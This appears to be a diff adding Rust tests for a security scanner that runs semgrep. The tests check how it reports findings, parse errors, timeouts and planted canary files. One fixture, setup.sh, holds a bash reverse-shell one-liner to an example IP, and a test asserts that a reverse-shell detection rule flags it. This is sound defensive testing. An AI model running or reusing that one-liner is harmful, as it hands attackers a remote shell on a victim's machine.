@@ -1,1 +1,149 @@
-//! Recorded output, and what is made of it.
+//! Recorded output of semgrep 1.182.0, and what is made of it.
+
+use super::*;
+use crate::neutral::Language;
+use crate::tools::{
+    output::ParseError,
+    testcopy::{self, TestCopy},
+};
+use skillgate_contract::Severity;
+
+const CLEAN: &[u8] = include_bytes!("../../../testdata/semgrep/clean.json");
+const FINDING: &[u8] = include_bytes!("../../../testdata/semgrep/finding.json");
+const PARSE_ERROR: &[u8] = include_bytes!("../../../testdata/semgrep/parse-error.json");
+const TIMEOUT: &[u8] = include_bytes!("../../../testdata/semgrep/timeout.json");
+const TIMEOUT_SECOND: &[u8] = include_bytes!("../../../testdata/semgrep/timeout-second.json");
+const KILLED: &[u8] = include_bytes!("../../../testdata/semgrep/killed-engine.json");
+
+fn all() -> TestCopy {
+    testcopy::copy()
+        .file("py", "scripts/a.py", Language::Python, "import json\nprint(json.dumps({}))\n")
+        .file(
+            "sh",
+            "setup.sh",
+            Language::Shell,
+            "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n",
+        )
+        .file("js", "broken.js", Language::JavaScript, "function (((((;\n")
+        .file("js", "bomb.js", Language::JavaScript, "const x=a+a;\n")
+        .planted("js", Language::JavaScript)
+        .planted("ts", Language::TypeScript)
+        .planted("tsx", Language::Tsx)
+        .planted("py", Language::Python)
+        .planted("sh", Language::Shell)
+        .planted("txt", Language::Text)
+}
+
+fn judged(first: &[u8], second: Option<&[u8]>, copy: &TestCopy) -> Result<ToolReport, ToolError> {
+    let second = second.map(|bytes| parse(bytes).unwrap());
+    judge(&parse(first).unwrap(), second.as_ref(), &copy.copy, &RulePack::embedded(), None)
+}
+
+#[test]
+fn a_clean_run_is_complete_and_names_tool_and_rules() {
+    let copy = all().without(&["setup.sh", "broken.js", "bomb.js"]);
+    let report = judged(CLEAN, None, &copy).unwrap();
+    assert_eq!((report.files_scanned, report.findings.len()), (1, 0));
+    assert_eq!((report.unscanned.len(), report.text_rules_only.len()), (0, 0));
+    assert!(report.problems.is_empty());
+    assert_eq!((report.tool.name.as_str(), report.tool.version.as_str()), ("semgrep", "1.182.0"));
+    assert!(!report.tool.rules.is_empty());
+}
+
+#[test]
+fn a_match_is_found_at_its_place_in_the_repository() {
+    let copy = all().without(&["broken.js", "bomb.js"]);
+    let report = judged(FINDING, None, &copy).unwrap();
+    let found = &report.findings[0];
+    assert_eq!(found.rule, "skillgate.reverse-shell.dev-tcp");
+    assert_eq!((found.file.as_str(), found.line, found.end_line), ("setup.sh", Some(2), Some(2)));
+    assert_eq!(found.severity, Severity::Critical);
+    assert!(found.code.contains("/dev/tcp/203.0.113.7"), "{}", found.code);
+}
+
+#[test]
+fn g10_an_unparsable_file_is_read_by_the_text_rules_and_named() {
+    let copy = all().without(&["setup.sh", "bomb.js"]);
+    let report = judged(PARSE_ERROR, None, &copy).unwrap();
+    assert_eq!(report.text_rules_only[0].file, "broken.js");
+    assert_eq!(report.text_rules_only[0].reason, "a syntax error");
+    assert_eq!(report.findings[0].rule, "skillgate.coverage.text-rules-only");
+    assert_eq!(report.findings[0].severity, Severity::Low);
+    assert!(report.unscanned.is_empty() && report.problems.is_empty());
+}
+
+#[test]
+fn a_guess_that_does_not_parse_takes_nothing_from_the_coverage() {
+    let mut copy = all().without(&["setup.sh", "bomb.js"]);
+    copy.copy.files[2].guessed = true;
+    let report = judged(PARSE_ERROR, None, &copy).unwrap();
+    assert!(report.text_rules_only.is_empty() && report.findings.is_empty());
+}
+
+#[test]
+fn g10_a_parser_bomb_gets_a_second_reading_by_the_text_rules() {
+    let copy = all().without(&["setup.sh", "broken.js"]);
+    let first = parse(TIMEOUT).unwrap();
+    assert_eq!(unsettled(&first, &copy.copy), ["f000004.js"]);
+    let report = judged(TIMEOUT, Some(TIMEOUT_SECOND), &copy).unwrap();
+    assert_eq!(report.text_rules_only[0].file, "bomb.js");
+    assert_eq!(report.text_rules_only[0].reason, "a rule ran out of time");
+    assert!(report.unscanned.is_empty());
+    // A second reading that says nothing of the file leaves it unread.
+    let silent = br#"{"version":"1.182.0","results":[],"errors":[]}"#;
+    let report = judged(TIMEOUT, Some(silent), &copy).unwrap();
+    assert_eq!(report.unscanned[0].file, "bomb.js");
+}
+
+#[test]
+fn g02_a_run_without_its_planted_positives_is_void() {
+    let copy = all().without(&["setup.sh", "broken.js", "bomb.js"]);
+    for output in [&b"{\"version\":\"1\",\"results\":[],\"errors\":[]}"[..], KILLED] {
+        assert!(matches!(judged(output, None, &copy), Err(ToolError::PlantedMissing { .. })));
+    }
+    let nothing = TestCopy::file(testcopy::copy(), "py", "a.py", Language::Python, "x\n");
+    assert!(matches!(judged(CLEAN, None, &nothing), Err(ToolError::NothingPlanted { .. })));
+}
+
+#[test]
+fn g02_a_canary_that_the_author_wrote_proves_nothing() {
+    let mut copy = all().without(&["setup.sh", "broken.js", "bomb.js"]);
+    copy.copy.files[0].content_lines = 99;
+    let report = judged(CLEAN, None, &copy).unwrap();
+    assert_eq!(report.unscanned[0].file, "scripts/a.py");
+}
+
+#[test]
+fn g01_half_an_output_is_no_output() {
+    for cut in [0, 1, FINDING.len() / 2, FINDING.len() - 3] {
+        assert!(parse(&FINDING[..cut]).is_err(), "{cut}");
+    }
+    assert!(matches!(parse(b" \n"), Err(ParseError::Empty)));
+    assert!(parse(b"[]").is_err() && parse(b"{}").is_err());
+}
+
+#[test]
+fn an_error_about_the_whole_run_is_a_problem() {
+    let copy = all().without(&["setup.sh", "broken.js", "bomb.js"]);
+    let mut output = parse(CLEAN).unwrap();
+    output.faults.push(Fault {
+        is_error: true,
+        kind: "Rule parse error".into(),
+        message: "in rule /srv/x/a.yaml".into(),
+        ..Fault::default()
+    });
+    let report = judge(&output, None, &copy.copy, &RulePack::embedded(), None).unwrap();
+    assert_eq!(report.problems, ["semgrep reported Rule parse error: in rule a.yaml"]);
+}
+
+#[test]
+fn g06_no_file_comment_or_size_of_the_repository_steers_semgrep() {
+    let rules = RulesOnDisk { all: "/w/a1".into(), text_only: vec!["/w/a1/text".into()] };
+    let args = args(&rules, Path::new("/w/root"));
+    for flag in ["--disable-nosem", "--no-git-ignore", "--max-target-bytes=0", "--metrics=off"] {
+        assert!(args.contains(&flag.into()), "{flag}");
+    }
+    let again = text_args(&rules, Path::new("/w/root"), &["f000001.js".into()]);
+    assert_eq!(again.last().unwrap(), "/w/root/f000001.js");
+    assert!(again.contains(&"/w/a1/text".into()) && !again.contains(&"/w/a1".into()));
+}
